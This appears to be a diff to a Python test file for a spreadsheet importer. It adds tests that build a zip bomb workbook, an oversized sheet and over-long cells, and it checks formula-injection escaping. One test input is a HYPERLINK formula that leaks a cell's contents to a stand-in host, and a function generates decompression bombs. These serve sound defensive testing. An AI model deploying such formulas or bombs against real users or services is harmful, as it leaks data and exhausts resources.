@@ -6,6 +6,9 @@ import codecs
 import io
 import subprocess
 import sys
+import time
+import tracemalloc
+import zipfile
 from datetime import date, datetime
 from pathlib import Path
 
@@ -232,7 +235,7 @@ def test_xlsx_keeps_cell_types():
         xlsx([["a", "b"], [datetime(2024, 3, 5), 15.5], ["=1+1", None]]), "a.xlsx", max_bytes=MB, max_rows=10
     )
     assert rows[1] == [datetime(2024, 3, 5), 15.5]
-    assert rows[2][1] is None
+    assert rows[2] == [None]  # a formula without a cached value reads as blank; rows are not padded
 
 
 @pytest.mark.parametrize(
@@ -272,3 +275,151 @@ def test_utf16_without_bom_is_refused_rather_than_read_as_garbage():
     with pytest.raises(SheetError) as exc:
         read_rows(csv_text(ROWS).encode("utf-16-le"), "a.csv", max_bytes=MB, max_rows=10)
     assert exc.value.code == "bad_csv"
+
+
+# ---------------------------------------------------------------- crafted workbooks
+
+SHEET_HEAD = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+)
+HEADERS = ["姓名", "身份证号", "出生日期", "性别", "体重", "缺勤日期", "是否请假"]
+
+
+def _inline(ref: str, text: str) -> str:
+    where = f' r="{ref}"' if ref else ""  # without a reference a cell follows the one before
+    return f'<c{where} t="inlineStr"><is><t>{text}</t></is></c>'
+
+
+def _with_sheet(write_sheet) -> bytes:
+    """A real workbook whose first sheet's XML is written by ``write_sheet(file)``."""
+    template = zipfile.ZipFile(io.BytesIO(xlsx([["x"]])))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
+        for item in template.infolist():
+            if item.filename == "xl/worksheets/sheet1.xml":
+                with book.open(item.filename, "w", force_zip64=True) as fh:
+                    write_sheet(fh)
+            else:
+                book.writestr(item, template.read(item))
+    return out.getvalue()
+
+
+def bomb_xlsx(unpacked_mb: int) -> bytes:
+    """A workbook whose sheet XML is ``unpacked_mb`` MB of one row repeated (about 1000:1)."""
+    row = "<row>" + "".join(_inline("", "张三") for _ in range(10)) + "</row>"  # valid: openpyxl reads it
+    chunk = (row * (2**20 // len(row.encode()))).encode()  # whole rows, about 1 MB
+
+    def write(fh):
+        fh.write((SHEET_HEAD + "<sheetData>").encode())
+        for _ in range(unpacked_mb):
+            fh.write(chunk)
+        fh.write(b"</sheetData></worksheet>")
+
+    return _with_sheet(write)
+
+
+def wide_xlsx(rows: int) -> bytes:
+    """A sheet declared 16,384 columns wide, every row with a cell in column XFD."""
+
+    def write(fh):
+        fh.write((SHEET_HEAD + '<dimension ref="A1:XFD1048576"/><sheetData>').encode())
+        header = "".join(_inline(f"{chr(65 + i)}1", h) for i, h in enumerate(HEADERS))
+        fh.write(f'<row r="1">{header}</row>'.encode())
+        for r in range(2, rows + 2):
+            fh.write(f'<row r="{r}">{_inline(f"A{r}", "张三")}<c r="XFD{r}"><v>1</v></c></row>'.encode())
+        fh.write(b"</sheetData></worksheet>")
+
+    return _with_sheet(write)
+
+
+def test_a_zip_bomb_is_refused_before_parsing_quickly_and_in_little_memory(monkeypatch):
+    content = bomb_xlsx(64)  # over the 50 MB cap once unpacked
+    assert len(content) < MB
+    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: pytest.fail("parsed a bomb"))
+    tracemalloc.start()
+    started = time.perf_counter()
+    with pytest.raises(SheetError) as exc:
+        read_rows(content, "a.xlsx", max_bytes=20 * MB, max_rows=20000)
+    seconds = time.perf_counter() - started
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    assert exc.value.code == "unpacked_too_large"
+    assert str(exc.value) == "The workbook unpacks to more than 50 MB or is not an ordinary Excel file."
+    assert seconds < 1
+    assert peak < 10 * MB
+
+
+def test_an_extreme_compression_ratio_is_refused_under_the_size_cap():
+    content = bomb_xlsx(20)  # 20 MB unpacked, about 1000:1
+    with pytest.raises(SheetError) as exc:
+        read_rows(content, "a.xlsx", max_bytes=MB, max_rows=10)
+    assert exc.value.code == "unpacked_too_large"
+    with pytest.raises(SheetError) as exc:
+        read_rows(content, "a.xlsx", max_bytes=MB, max_rows=10, max_unpacked=10 * MB)
+    assert exc.value.params == {"mb": 10}
+
+
+def test_a_workbook_of_too_many_parts_is_refused():
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as book:
+        for i in range(sheets.MAX_MEMBERS + 1):
+            book.writestr(f"p{i}", b"")
+    with pytest.raises(SheetError) as exc:
+        read_rows(out.getvalue(), "a.xlsx", max_bytes=MB, max_rows=10)
+    assert exc.value.code == "unpacked_too_large"
+
+
+def test_rows_declared_16384_columns_wide_are_read_narrow():
+    started = time.perf_counter()
+    rows = read_rows(wide_xlsx(5000), "a.xlsx", max_bytes=2 * MB, max_rows=5000)
+    assert time.perf_counter() - started < 10  # 11.7 s and 1.3 GB before
+    assert rows[0] == HEADERS
+    assert rows[1][0] == "张三"
+    assert max(len(r) for r in rows) == sheets.MAX_COLUMNS
+
+
+def _long_cell_sheet(name: str, chars: int) -> bytes:
+    rows = [["姓名", "出生日期"], ["张三", "2021-03-01"], ["x" * chars, "2021-03-01"]]
+    if name.endswith(".csv"):
+        return csv_text(rows).encode()
+
+    def write(fh):  # by hand: openpyxl itself cuts a longer cell to Excel's limit when writing
+        body = "".join(
+            f'<row r="{r}">' + "".join(_inline(f"{'AB'[c]}{r}", v) for c, v in enumerate(row)) + "</row>"
+            for r, row in enumerate(rows, start=1)
+        )
+        fh.write((SHEET_HEAD + f"<sheetData>{body}</sheetData></worksheet>").encode())
+
+    return _with_sheet(write)
+
+
+@pytest.mark.parametrize("name", ["a.csv", "a.xlsx"])
+def test_a_cell_longer_than_excel_allows_is_refused(name):
+    with pytest.raises(SheetError) as exc:
+        read_rows(_long_cell_sheet(name, sheets.MAX_CELL_CHARS + 1), name, max_bytes=MB, max_rows=10)
+    assert (exc.value.code, exc.value.params["row"]) == ("cell_too_large", 3)
+    assert str(exc.value) == "A cell in row 3 holds more than 32767 characters."
+    assert len(read_rows(_long_cell_sheet(name, sheets.MAX_CELL_CHARS), name, max_bytes=MB, max_rows=10)) == 3
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
+        ("+1+2", "'+1+2"),
+        ("-1+2", "'-1+2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-3.20", "-3.20"),  # a z-score written as text is a number, not a formula
+        ("+12", "+12"),
+        ("-", "-"),  # oedema "absent"
+        ("张三", "张三"),
+        ("a=1", "a=1"),
+        (-3.2, -3.2),
+        (None, None),
+    ],
+)
+def test_safe_cell(value, written):
+    assert sheets.safe_cell(value) == written
